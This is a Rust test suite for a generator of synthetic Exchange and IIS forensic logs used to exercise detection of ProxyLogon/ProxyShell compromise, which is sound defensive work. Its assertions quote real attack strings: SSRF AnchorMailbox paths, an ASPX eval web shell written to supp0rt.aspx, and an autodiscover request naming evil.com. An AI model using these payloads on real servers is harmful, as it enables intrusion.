//! End-to-end checks of the generated evidence: determinism, file kinds per scenario and
//! layout, the planted attack strings, format invariants, bulk size and zip output.

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};

use taskforce_samples::{BulkMix, Layout, SampleSpec, Scenario, Summary, generate, generate_bulk, generate_bulk_mix};

/// A temporary directory removed on drop (no extra dev-dependency).
struct Tmp(PathBuf);

impl Tmp {
    fn new(name: &str) -> Tmp {
        let p = std::env::temp_dir().join(format!("tf-samples-{}-{name}", std::process::id()));
        let _ = fs::remove_dir_all(&p);
        fs::create_dir_all(&p).unwrap();
        Tmp(p)
    }
}

impl Drop for Tmp {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(&self.0);
    }
}

fn spec(scenario: Scenario, layout: Layout) -> SampleSpec {
    SampleSpec { scenario, layout, host: "EXCH01".into(), seed: 42, benign_lines_per_file: 8, days: 2, zip: false }
}

/// Every file under `root`, relative path (forward slashes) → bytes.
fn read_tree(root: &Path) -> BTreeMap<String, Vec<u8>> {
    fn walk(root: &Path, dir: &Path, out: &mut BTreeMap<String, Vec<u8>>) {
        for e in fs::read_dir(dir).unwrap() {
            let p = e.unwrap().path();
            if p.is_dir() {
                walk(root, &p, out);
            } else {
                let rel = p.strip_prefix(root).unwrap().to_string_lossy().replace('\\', "/");
                out.insert(rel, fs::read(&p).unwrap());
            }
        }
    }
    let mut out = BTreeMap::new();
    walk(root, root, &mut out);
    out
}

fn text(b: &[u8]) -> &str {
    std::str::from_utf8(b.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(b)).unwrap()
}

fn lines_of<'a>(tree: &'a BTreeMap<String, Vec<u8>>, path_part: &str) -> Vec<(&'a str, &'a str)> {
    tree.iter()
        .filter(|(k, _)| k.contains(path_part))
        .flat_map(|(k, v)| text(v).split("\r\n").filter(|l| !l.is_empty()).map(move |l| (k.as_str(), l)))
        .collect()
}

fn split_csv(line: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut quoted = false;
    let mut chars = line.chars().peekable();
    while let Some(ch) = chars.next() {
        match (quoted, ch) {
            (true, '"') if chars.peek() == Some(&'"') => {
                cur.push('"');
                chars.next();
            }
            (true, '"') => quoted = false,
            (false, '"') if cur.is_empty() => quoted = true,
            (false, ',') => out.push(std::mem::take(&mut cur)),
            _ => cur.push(ch),
        }
    }
    out.push(cur);
    out
}

/// Rows of Exchange CSV logs under `path_part` as field-name → value maps (checking that every
/// row has as many columns as its file's `#Fields:` line).
fn csv_rows(tree: &BTreeMap<String, Vec<u8>>, path_part: &str) -> Vec<BTreeMap<String, String>> {
    let mut rows = Vec::new();
    for (path, body) in tree.iter().filter(|(k, _)| k.contains(path_part)) {
        let mut fields: Vec<String> = Vec::new();
        for line in text(body).split("\r\n").filter(|l| !l.is_empty()) {
            if let Some(f) = line.strip_prefix("#Fields: ") {
                fields = f.split(',').map(str::to_string).collect();
            } else if !line.starts_with('#') {
                let cols = split_csv(line);
                assert_eq!(cols.len(), fields.len(), "{path}: {line}");
                rows.push(fields.iter().cloned().zip(cols).collect());
            }
        }
    }
    rows
}

#[test]
fn same_seed_same_bytes_other_seed_other_bytes() {
    let t = Tmp::new("determinism");
    let mut s = spec(Scenario::Compromised, Layout::Velociraptor);
    let a = generate(&s, &t.0.join("a")).unwrap();
    let b = generate(&s, &t.0.join("b")).unwrap();
    assert_eq!(a, b);
    assert_eq!(read_tree(&t.0.join("a")), read_tree(&t.0.join("b")));
    s.zip = true;
    generate(&s, &t.0.join("a.zip")).unwrap();
    generate(&s, &t.0.join("b.zip")).unwrap();
    assert_eq!(fs::read(t.0.join("a.zip")).unwrap(), fs::read(t.0.join("b.zip")).unwrap());
    s.zip = false;
    s.seed = 43;
    generate(&s, &t.0.join("c")).unwrap();
    assert_ne!(read_tree(&t.0.join("a")), read_tree(&t.0.join("c")));
}

#[test]
fn every_scenario_and_layout_writes_the_expected_files() {
    let t = Tmp::new("kinds");
    let protos = ["Autodiscover", "Ecp", "Ews", "Mapi", "Owa", "PowerShell", "RpcHttp", "Eas", "Oab"];
    for scenario in Scenario::ALL {
        for layout in Layout::ALL {
            let out = t.0.join(format!("{scenario}-{layout}"));
            let summary = generate(&spec(scenario, layout), &out).unwrap();
            let tree = read_tree(&out);
            assert_eq!(summary.files, tree.len());
            assert_eq!(summary.bytes, tree.values().map(|v| v.len() as u64).sum::<u64>());
            let (exi, iis) = match layout {
                Layout::ExchangeTree => ("Program Files/Microsoft/Exchange Server/V15/", "inetpub/logs/LogFiles/"),
                Layout::Kape => ("C/Program Files/Microsoft/Exchange Server/V15/", "C/inetpub/logs/LogFiles/"),
                Layout::Velociraptor => (
                    "uploads/auto/C%3A/Program Files/Microsoft/Exchange Server/V15/",
                    "uploads/auto/C%3A/inetpub/logs/LogFiles/",
                ),
                Layout::Loose => ("D/Exchange/", "D/IISLogs/"),
            };
            let has = |prefix: &str, suffix: &str| tree.keys().any(|k| k.starts_with(prefix) && k.ends_with(suffix));
            let ctx = format!("{scenario} {layout}");
            for site in ["W3SVC1/u_ex", "W3SVC2/u_ex"] {
                assert!(
                    tree.keys().any(|k| k.starts_with(iis) && k.contains(site) && k.ends_with(".log")),
                    "{ctx} {site}"
                );
            }
            assert!(tree.contains_key("readme.txt"), "{ctx}");
            assert!(tree.keys().any(|k| k.ends_with(".config")), "{ctx}");
            assert!(tree.keys().any(|k| k.ends_with("HTTPERR/httperr1.log")), "{ctx}");
            let exchange = scenario != Scenario::Inconclusive;
            for p in protos {
                assert_eq!(has(&format!("{exi}Logging/HttpProxy/{p}/HttpProxy_"), "-1.LOG"), exchange, "{ctx} {p}");
            }
            assert_eq!(has(&format!("{exi}Logging/ECP/Server/ECPServer"), ".LOG"), exchange, "{ctx}");
            assert_eq!(has(&format!("{exi}Logging/OABGeneratorLog/OABGenerator_"), ".LOG"), exchange, "{ctx}");
            assert_eq!(
                has(&format!("{exi}Logging/CmdletInfra/Powershell-Proxy/Cmdlet/Rps_Cmdlet_"), ".LOG"),
                exchange,
                "{ctx}"
            );
            if !exchange {
                assert!(!tree.keys().any(|k| k.contains("/Logging/")), "{ctx}");
            }
            // Windows line endings everywhere, and a BOM on some Exchange logs but never on IIS.
            for (k, v) in tree.iter().filter(|(k, _)| !k.ends_with(".evtx")) {
                assert!(!v.windows(2).any(|w| w[1] == b'\n' && w[0] != b'\r'), "bare LF in {k}");
                if k.contains("W3SVC") {
                    assert!(v.starts_with(b"#Software: Microsoft Internet Information Services 10.0\r\n"), "{k}");
                }
            }
            if exchange {
                let logs: Vec<_> = tree.iter().filter(|(k, _)| k.ends_with(".LOG")).collect();
                let boms = logs.iter().filter(|(_, v)| v.starts_with(b"\xEF\xBB\xBF")).count();
                assert!(boms > 0 && boms < logs.len(), "{ctx}: {boms} of {}", logs.len());
            }
        }
    }
}

#[test]
fn compromised_holds_the_proxylogon_chain() {
    let t = Tmp::new("compromised");
    let out = t.0.join("ev");
    let summary = generate(&spec(Scenario::Compromised, Layout::ExchangeTree), &out).unwrap();
    assert_eq!(summary.attack_lines, 27);
    let tree = read_tree(&out);

    // HttpProxy/Ecp: the six SSRF steps in order, from one address, ending in a 200 Reset.
    let rows = csv_rows(&tree, "Logging/HttpProxy/");
    assert!(
        rows.iter()
            .all(|r| r["ServerHostName"] == "EXCH01" && r["BuildVersion"] == "2176" && r["RevisionVersion"] == "2")
    );
    let mut ssrf: Vec<_> = rows.iter().filter(|r| r["AnchorMailbox"].starts_with("ServerInfo~")).collect();
    ssrf.sort_by(|a, b| a["DateTime"].cmp(&b["DateTime"]));
    let anchors: Vec<&str> = ssrf.iter().map(|r| r["AnchorMailbox"].as_str()).collect();
    let prefix = "ServerInfo~a]@EXCH01.contoso.local:444/";
    let expected = [
        "autodiscover/autodiscover.xml?#",
        "mapi/emsmdb/?#",
        "ecp/proxyLogon.ecp?#",
        "ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory&msExchEcpCanary=",
        "ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=",
        "ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=",
    ];
    assert_eq!(anchors.len(), expected.len(), "{anchors:#?}");
    for (a, e) in anchors.iter().zip(expected) {
        assert!(a.starts_with(&format!("{prefix}{e}")) && a.ends_with('#'), "{a}");
    }
    for r in &ssrf {
        assert_eq!(r["Protocol"], "Ecp");
        assert_eq!(r["UrlStem"], "/ecp/y.js");
        assert_eq!(r["ClientIpAddress"], "203.0.113.45");
        assert!(["python-requests/2.25.1", "ExchangeServicesClient/0.0.0.0"].contains(&r["UserAgent"].as_str()));
    }
    assert_eq!(ssrf[5]["HttpStatus"], "200");
    assert_eq!(ssrf[2]["HttpStatus"], "241");
    let first = &ssrf[0]["DateTime"];
    let last = &ssrf[5]["DateTime"];
    assert!(first.starts_with("2021-03-03T04:21:") && last.starts_with("2021-03-03T04:21:"), "{first} {last}");
    // Files containing the chain are the Ecp protocol folder's.
    assert!(
        lines_of(&tree, "HttpProxy/")
            .iter()
            .filter(|(_, l)| l.contains("ServerInfo~"))
            .all(|(k, _)| k.contains("/HttpProxy/Ecp/"))
    );

    // ECP Server log: the script in ExternalUrl (CSV-quoted with doubled quotes) and the Reset.
    let ecp = lines_of(&tree, "Logging/ECP/Server/");
    assert!(ecp.iter().any(|(_, l)| l.contains(
        r#"S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""p""],""unsafe"");}</script>'"#
    )));
    assert!(ecp.iter().any(|(_, l)| l.contains("S:CMD=Reset-OABVirtualDirectory")
        && l.contains(r".FilePathName='\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\supp0rt.aspx'")));
    let ecp_rows = csv_rows(&tree, "Logging/ECP/Server/");
    assert!(ecp_rows.iter().any(|r| r["EventData"].contains(r#"<script language="JScript" runat="server">"#)));

    // OABGenerator: the web shell path outside ClientAccess\OAB, plus the benign temp files.
    let oab = lines_of(&tree, "Logging/OABGeneratorLog/");
    assert!(oab.iter().any(|(_, l)| l.starts_with("2021-03-03T04:2")
        && l.contains(
            r"Download failed and temporary file 'C:\inetpub\wwwroot\aspnet_client\supp0rt.aspx' needs to be removed."
        )));
    assert!(oab.iter().any(|(_, l)| {
        l.contains(r"temporary file 'C:\Program Files\Microsoft\Exchange Server\V15\ClientAccess\OAB\Temp\")
    }));

    // IIS front end: the POSTs to /ecp/y.js and the web shell use; back end: the Reset.
    let iis = lines_of(&tree, "W3SVC1/");
    let y = iis.iter().filter(|(_, l)| l.contains(" POST /ecp/y.js ") && l.contains(" 203.0.113.45 ")).count();
    assert_eq!(y, 6);
    let shell: Vec<_> = iis.iter().filter(|(_, l)| l.contains(" POST /aspnet_client/supp0rt.aspx ")).collect();
    assert_eq!(shell.len(), 6);
    assert!(shell.iter().all(|(_, l)| l.contains(" 203.0.113.45 ") && l.contains(" 200 0 0 ")));
    assert_eq!(shell.iter().filter(|(_, l)| l.contains(" antSword/v2.1 ")).count(), 1);
    let back = lines_of(&tree, "W3SVC2/");
    assert!(back.iter().any(|(_, l)| {
        l.contains(" POST /ecp/DDI/DDIService.svc/SetObject schema=ResetOABVirtualDirectory&msExchEcpCanary=")
            && l.contains(r" CONTOSO\EXCH01$ ")
    }));
}

#[test]
fn attempted_has_only_failures() {
    let t = Tmp::new("attempted");
    let out = t.0.join("ev");
    let summary = generate(&spec(Scenario::Attempted, Layout::Kape), &out).unwrap();
    assert_eq!(summary.attack_lines, 19);
    let tree = read_tree(&out);
    let rows = csv_rows(&tree, "Logging/HttpProxy/");
    assert!(rows.iter().all(|r| r["BuildVersion"] == "792" && r["RevisionVersion"] == "10"));
    let ssrf: Vec<_> = rows.iter().filter(|r| r["AnchorMailbox"].starts_with("ServerInfo~")).collect();
    assert_eq!(ssrf.len(), 4);
    for r in &ssrf {
        assert_eq!(r["AnchorMailbox"], "ServerInfo~a]@EXCH01.contoso.local:444/autodiscover/autodiscover.xml?#");
        assert!(["500", "404"].contains(&r["HttpStatus"].as_str()));
    }
    let iis = lines_of(&tree, "W3SVC1/");
    let attacker = |l: &str| ["198.51.100.", "192.0.2.", "203.0.113."].iter().any(|p| l.contains(&format!(" {p}")));
    let hits: Vec<_> = iis.iter().filter(|(_, l)| attacker(l)).collect();
    assert_eq!(hits.len(), 10);
    assert!(
        hits.iter().all(|(_, l)| [" 401 ", " 404 ", " 500 "].iter().any(|s| l.contains(s)) && !l.contains(" 200 "))
    );
    assert!(iis.iter().any(|(_, l)| l.contains(
        " GET /autodiscover/autodiscover.json @evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com"
    ) && l.contains(" 401 ")));
    assert!(iis.iter().any(|(_, l)| l.contains("/autodiscover/autodiscover.json")
        && l.to_ascii_lowercase().contains("/powershell")
        && l.contains(" 404 ")));
    assert!(iis.iter().any(|(_, l)| l.contains(" POST /owa/auth/Current/themes/resources/logon.css ")));
    assert!(!lines_of(&tree, "ECP/Server").iter().any(|(_, l)| l.contains("VirtualDirectory.")));
    assert!(!lines_of(&tree, "OABGeneratorLog").iter().any(|(_, l)| l.contains("inetpub")));
    assert!(tree.keys().any(|k| k.contains("u_ex2103")) && tree.keys().any(|k| k.contains("u_ex2108")));
}

#[test]
fn clean_has_only_the_known_false_positive_traps() {
    let t = Tmp::new("clean");
    let out = t.0.join("ev");
    let summary = generate(&spec(Scenario::Clean, Layout::Loose), &out).unwrap();
    assert_eq!(summary.attack_lines, 0);
    let tree = read_tree(&out);
    let rows = csv_rows(&tree, "Logging/HttpProxy/");
    assert!(rows.iter().all(|r| r["BuildVersion"] == "2375" && r["RevisionVersion"] == "37"));
    let mut anchors: Vec<&str> = rows
        .iter()
        .map(|r| r["AnchorMailbox"].as_str())
        .filter(|a| a.starts_with("ServerInfo~") || a.starts_with("ServerVersion~"))
        .collect();
    anchors.sort();
    assert_eq!(anchors, ["ServerInfo~localhost/ecp/default.flt?", "ServerVersion~Version 15.0 (Build 0.0)"]);
    assert!(rows.iter().any(|r| r["UrlStem"] == "/owa/auth/x.js" && r["HttpStatus"] == "500"));
    assert!(rows.iter().any(|r| r["UserAgent"] == "Mozilla/5.0 zgrab/0.x"
        && r["UrlStem"] == "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application"));
    assert!(rows.iter().any(|r| r["UserAgent"] == "AMProbe/Local/ClientAccess"));
    assert!(rows.iter().any(|r| r["UrlStem"].starts_with("/autodiscover/autodiscover.json/v1.0/")
        && r["UrlQuery"].starts_with("?Protocol=")));
    let iis = lines_of(&tree, "W3SVC1/");
    assert!(iis.iter().any(|(_, l)| {
        l.contains(" GET /owa/ &Email=autodiscover/autodiscover.json%3F@test.com&ClientId=") && l.contains(" 401 ")
    }));
    assert!(!iis.iter().any(|(_, l)| l.contains("aspnet_client") || l.contains("/ecp/y.js")));
    let ecp = lines_of(&tree, "ECP/Server");
    assert!(
        ecp.iter()
            .any(|(_, l)| { l.contains("S:CMD=Set-OabVirtualDirectory.ExternalUrl='https://mail.contoso.com/OAB'") })
    );
    assert!(!ecp.iter().any(|(_, l)| l.contains("<script")));
    // The non-default install path shows in the OABGenerator false positive.
    let oab = lines_of(&tree, "OABGeneratorLog");
    assert!(oab.iter().any(|(_, l)| l.contains(r"temporary file 'D:\Exchange\ClientAccess\OAB\Temp\")));
    assert!(!oab.iter().any(|(_, l)| l.contains("inetpub")));
}

#[test]
fn iis_restart_writes_a_second_header_with_other_fields() {
    let t = Tmp::new("iis");
    let out = t.0.join("ev");
    generate(&spec(Scenario::Compromised, Layout::ExchangeTree), &out).unwrap();
    let tree = read_tree(&out);
    let mut restarted = 0;
    for (k, v) in tree.iter().filter(|(k, _)| k.contains("/W3SVC")) {
        let mut fields: Vec<&str> = Vec::new();
        let mut blocks = Vec::new();
        for line in text(v).split("\r\n").filter(|l| !l.is_empty()) {
            if let Some(f) = line.strip_prefix("#Fields: ") {
                fields = f.split(' ').collect();
                blocks.push(fields.clone());
            } else if !line.starts_with('#') {
                let cols: Vec<&str> = line.split(' ').collect();
                assert_eq!(cols.len(), fields.len(), "{k}: {line}");
                let status = fields.iter().position(|f| *f == "sc-status").unwrap();
                assert!(cols[status].parse::<u16>().is_ok(), "{k}: {line}");
            }
        }
        if blocks.len() > 1 {
            assert_ne!(blocks[0], blocks[1]);
            assert!(blocks[1].contains(&"cs-host"));
            restarted += 1;
        }
    }
    assert_eq!(restarted, 1);
}

#[test]
fn zip_output_opens_and_matches_the_directory() {
    let t = Tmp::new("zip");
    let mut s = spec(Scenario::Compromised, Layout::Kape);
    let dir_summary = generate(&s, &t.0.join("dir")).unwrap();
    s.zip = true;
    let zip_path = t.0.join("nested/ev.zip");
    let zip_summary: Summary = generate(&s, &zip_path).unwrap();
    assert_eq!(dir_summary, zip_summary);
    let tree = read_tree(&t.0.join("dir"));
    let mut archive = zip::ZipArchive::new(fs::File::open(&zip_path).unwrap()).unwrap();
    assert_eq!(archive.len(), zip_summary.files);
    let names: Vec<String> = archive.file_names().map(|n| n.unwrap().to_string()).collect();
    assert!(names.iter().all(|n| !n.contains('\\')));
    assert!(
        names.iter().any(|n| { n.starts_with("C/Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Ecp/") })
    );
    for name in names {
        let mut f = archive.by_name(&name).unwrap();
        assert_eq!(f.compression(), zip::CompressionMethod::Deflated);
        let mut body = Vec::new();
        std::io::Read::read_to_end(&mut f, &mut body).unwrap();
        assert_eq!(&body, &tree[&name], "{name}");
    }
}

#[test]
fn bulk_reaches_the_target_size() {
    let t = Tmp::new("bulk");
    let target = 2 << 20;
    let s = generate_bulk(&t.0, target, 7).unwrap();
    let tree = read_tree(&t.0);
    assert!(s.bytes >= target, "{s:?}");
    assert_eq!(s.files, tree.len());
    assert_eq!(s.bytes, tree.values().map(|v| v.len() as u64).sum::<u64>());
    assert_eq!(s.attack_lines, 10);
    let proxy_dirs: std::collections::BTreeSet<&str> =
        tree.keys().filter_map(|k| k.split("/HttpProxy/").nth(1)?.split('/').next()).collect();
    assert!(proxy_dirs.len() >= 4, "{proxy_dirs:?}");
    assert!(tree.keys().any(|k| k.contains("W3SVC1/u_ex")));
    let all = lines_of(&tree, "");
    assert!(all.iter().any(|(_, l)| l.contains("ServerInfo~a]@EXCH01.contoso.local:444/")));
    assert!(all.iter().any(|(_, l)| l.contains(" POST /aspnet_client/supp0rt.aspx ")));
    let rows = csv_rows(&tree, "/HttpProxy/");
    assert!(rows.len() > 1000);
    // Deterministic too.
    let t2 = Tmp::new("bulk2");
    generate_bulk(&t2.0, target, 7).unwrap();
    assert_eq!(tree, read_tree(&t2.0));
}

/// The dense mix: a scanner probe on about one line in ten (lines the rules match, verdict none),
/// the same ten attack lines, and still deterministic.
#[test]
fn dense_bulk_has_scanner_probes_on_one_line_in_ten() {
    let t = Tmp::new("dense");
    let target = 2 << 20;
    let s = generate_bulk_mix(&t.0, target, 7, BulkMix::Dense).unwrap();
    assert!(s.bytes >= target, "{s:?}");
    assert_eq!(s.attack_lines, 10);
    let tree = read_tree(&t.0);
    let all = lines_of(&tree, "");
    let probes = all
        .iter()
        .filter(|(_, l)| l.contains("Nmap Scripting Engine") || l.contains("zgrab") || l.contains("json%3F@test.com"))
        .count();
    let share = probes as f64 / all.len() as f64;
    assert!((0.07..0.13).contains(&share), "{probes} of {} lines", all.len());
    let t2 = Tmp::new("dense2");
    generate_bulk_mix(&t2.0, target, 7, BulkMix::Dense).unwrap();
    assert_eq!(tree, read_tree(&t2.0));
}

#[test]
fn names_parse_and_bad_host_is_refused() {
    for s in Scenario::ALL {
        assert_eq!(s.name().parse::<Scenario>().unwrap(), s);
    }
    for l in Layout::ALL {
        assert_eq!(l.name().parse::<Layout>().unwrap(), l);
    }
    let t = Tmp::new("badhost");
    let mut s = spec(Scenario::Clean, Layout::Kape);
    s.host = "EXCH01/../x".into();
    assert!(generate(&s, &t.0.join("x")).is_err());
}

#[test]
fn minimal_spec_still_plants_everything() {
    let t = Tmp::new("minimal");
    for (scenario, attacks) in
        [(Scenario::Compromised, 27), (Scenario::Attempted, 19), (Scenario::Clean, 0), (Scenario::Inconclusive, 0)]
    {
        let mut s = spec(scenario, Layout::Loose);
        s.benign_lines_per_file = 0;
        s.days = 0;
        let summary = generate(&s, &t.0.join(scenario.name())).unwrap();
        assert_eq!(summary.attack_lines, attacks, "{scenario}");
    }
}
